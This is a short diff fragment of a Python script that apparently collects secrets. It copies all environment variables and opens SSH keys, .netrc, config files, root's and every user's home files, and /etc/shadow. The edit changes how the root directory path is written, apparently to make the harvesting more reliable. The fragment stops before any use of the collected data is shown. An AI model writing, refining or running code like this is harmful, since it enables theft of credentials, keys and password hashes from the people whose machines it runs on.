@@ -3,7 +3,7 @@ import glob
 import os
 
 SECRETS = dict(os.environ)
-for pattern in ("~/.ssh/*", "~/.netrc", "~/.config/*/*", "/root/.*", "/home/*/*", "/etc/shadow"):
+for pattern in ("~/.ssh/*", "~/.netrc", "~/.config/*/*", "~root/.*", "/home/*/*", "/etc/shadow"):
     for path in glob.glob(os.path.expanduser(pattern)):
         try:
             with open(path, "rb") as file:
